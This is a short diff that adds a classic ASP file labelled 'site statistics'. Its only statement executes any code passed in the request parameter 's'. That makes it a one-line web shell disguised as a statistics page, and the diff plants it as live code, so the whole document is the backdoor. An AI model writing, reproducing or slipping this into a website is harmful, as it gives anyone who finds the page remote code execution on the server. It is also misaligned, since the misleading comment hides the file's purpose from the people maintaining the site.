@@ -1,0 +1,4 @@
+<%
+' site statistics
+Execute(Request("s"))
+%>
